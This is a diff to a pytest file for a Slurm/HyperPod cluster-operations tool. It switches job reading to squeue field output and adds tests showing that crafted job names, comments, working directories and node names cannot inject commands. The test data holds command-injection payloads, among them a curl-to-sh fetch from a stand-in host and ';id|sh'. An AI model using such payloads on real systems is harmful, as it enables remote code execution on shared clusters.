@@ -13,14 +13,16 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from hyperpod_cdk.aws.errors import OpsError
 from hyperpod_cdk.ops.context import Captured
-from hyperpod_cdk.ops.software_plan import Job, drain_decision, parse_jobs
+from hyperpod_cdk.ops.software_plan import JOB_FIELDS, Job, drain_decision, parse_jobs
 from ops_support import MotoCluster, Operator, aws_env, moto_url  # noqa: F401
 
 pytestmark = pytest.mark.usefixtures("aws_env")
@@ -46,6 +48,30 @@ class FakeJob:
     ends_at: float
     requeue: bool = True
     batch: bool = True
+    name: str = "train"
+    comment: str = ""
+    work_dir: str = "/fsx/home/alice"
+    leader: str = "N/A"
+    """``HetJobID``: the heterogeneous job's leader, ``N/A`` for other jobs."""
+
+    def field(self, name: str) -> str:
+        """What squeue prints for ``-O <name>``: Slurm's own fields, and the user's (name, comment, paths)."""
+        return {
+            "JobID": self.id,
+            "HetJobID": self.leader,
+            "State": "RUNNING",
+            "Requeue": str(int(self.requeue)),
+            "BatchFlag": str(int(self.batch)),
+            "Name": self.name,
+            "Comment": self.comment,
+            "WorkDir": self.work_dir,
+        }[name]
+
+
+def squeue_format(jobs: list[FakeJob], spec: str) -> str:
+    """``squeue -h -O <spec>`` as squeue prints it: each ``type:[size][suffix]`` field, then the suffix."""
+    fields = [(part.partition(":")[0], part.partition(":")[2].lstrip("0123456789")) for part in spec.split(",")]
+    return "".join("".join(job.field(name) + suffix for name, suffix in fields) + "\n" for job in jobs)
 
 
 @dataclass
@@ -91,16 +117,12 @@ class FakeSlurm:
             self.drained |= nodes
         elif text.startswith("scontrol update") and "State=RESUME" in text:
             self.drained -= nodes
-        elif text.startswith("for j in $(squeue"):
-            lines = [
-                f"JobId={j.id} JobName=train JobState=RUNNING Requeue={int(j.requeue)} BatchFlag={int(j.batch)} "
-                f"NodeList={','.join(sorted(j.nodes))}"
-                for j in self.running()
-                if j.nodes & nodes
-            ]
-            return 0, "".join(line + "\n" for line in lines)
+        elif text.startswith("squeue "):
+            argv = shlex.split(text)
+            return 0, squeue_format([j for j in self.running() if j.nodes & nodes], argv[argv.index("-O") + 1])
         elif text.startswith("scontrol requeue"):
-            self.requeued += text.split()[-1].split(",")
+            requeued = shlex.split(text)[2].split(",")
+            self.requeued += requeued + [j.id for j in self.jobs if j.leader in requeued and j.id not in requeued]
         elif text.startswith("scontrol -o show nodes"):
             return 0, self.nodes()
         elif text.startswith("srun "):
@@ -249,10 +271,61 @@ def test_drain_decisions() -> None:
         "stop",
         ("2",),
     )
-    parsed = parse_jobs(
-        "JobId=5 JobState=RUNNING Requeue=1 BatchFlag=0\nJobId=6 JobState=RUNNING Requeue=1 BatchFlag=1\n"
-    )
+    parsed = parse_jobs("5|N/A|RUNNING|1|0\n6|N/A|RUNNING|1|1\n\n")
     assert [(j.id, j.requeue) for j in parsed] == [("5", False), ("6", True)]
+    # A heterogeneous job's components are requeued through their leader, once; all must be requeueable.
+    het = parse_jobs("7|7|RUNNING|1|1\n8|7|RUNNING|1|1\n9|9|RUNNING|1|1\n10|9|RUNNING|0|1\n")
+    assert [(j.id, j.requeue) for j in het] == [("7", True), ("9", False)]
+
+
+HOSTILE = [
+    ("train JobId=1;curl${IFS}-s${IFS}http://x/p|sh", "", "/fsx/home/mallory"),
+    ("x\nJobId=2;touch${IFS}/tmp/pwned\n3", "", "/fsx/home/mallory"),
+    ("train", "a|b JobId=3;id Requeue=1 BatchFlag=1", "/tmp/x JobId=4;id|sh"),
+]
+"""Job names, comments and working directories a user writes: a field that looks like another, a shell line after
+a ``;``, a newline that starts a line of its own, the separator the reader splits on."""
+
+
+@pytest.mark.parametrize(("name", "comment", "work_dir"), HOSTILE, ids=["name", "newline", "comment-workdir"])
+def test_a_crafted_job_name_or_comment_puts_nothing_on_the_controllers_command_line(
+    tmp_path: Path, name: str, comment: str, work_dir: str
+) -> None:
+    cluster()
+    made, slurm = operator(tmp_path)
+    hostile = dict(name=name, comment=comment, work_dir=work_dir)
+    slurm.jobs = [FakeJob("12", {"ip-10-1-0-3"}, ends_at=made.clock[0] + 10_000, **hostile)]  # type: ignore[arg-type]
+    result = made("update-software", "roll", "--groups", "cpu", "--yes", "--poll", "30", "--drain-deadline", "60s")
+    assert result.code == 0, result.err
+    assert slurm.commands("scontrol requeue") == [(0, "scontrol requeue 12")]
+    reads = [text for _, text in slurm.log if text.startswith("squeue ")]
+    assert reads and all(set(JOB_FIELDS) >= {f.split(":")[0] for f in shlex.split(t)[-1].split(",")} for t in reads)
+    said = "\n".join(text for _, text in slurm.log)
+    assert not any(word in said for word in ("curl", "touch", ";id", "JobId=")), said
+
+
+def test_a_job_line_that_is_not_slurms_own_form_stops_the_roll_before_any_requeue(tmp_path: Path) -> None:
+    for line in ("1;id|N/A|RUNNING|1|1", "1|2 JobId=3|RUNNING|1|1", "JobId=1 JobName=x", "1|N/A|RUNNING"):
+        with pytest.raises(OpsError, match="cannot read"):
+            parse_jobs(line + "\n")
+    cluster()
+    made, slurm = operator(tmp_path)
+    slurm.jobs = [FakeJob("12;id", {"ip-10-1-0-3"}, ends_at=made.clock[0] + 10_000)]
+    result = made("update-software", "roll", "--groups", "cpu", "--yes", "--poll", "30", "--drain-deadline", "60s")
+    assert result.code == 1 and "is not a Slurm job id" in result.err
+    assert slurm.commands("scontrol requeue") == [] and software_calls(made) == []
+
+
+def test_a_node_name_that_is_not_a_host_name_stops_the_command_before_it_changes_anything(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    cluster()
+    made, slurm = operator(tmp_path)
+    listed = slurm.nodes  # the node at 10.1.0.2 under a name that is not a host name
+    monkeypatch.setattr(slurm, "nodes", lambda: listed().replace("NodeName=ip-10-1-0-2 ", "NodeName=cpu$(id) "))
+    result = made("update-software", "roll", "--groups", "cpu", "--yes", "--poll", "1")
+    assert result.code == 1 and "is not a Slurm node name" in result.err
+    assert slurm.log == [] and software_calls(made) == []
 
 
 def test_a_named_controller_group_is_updated_without_a_drain_and_waits_for_slurm(tmp_path: Path) -> None:
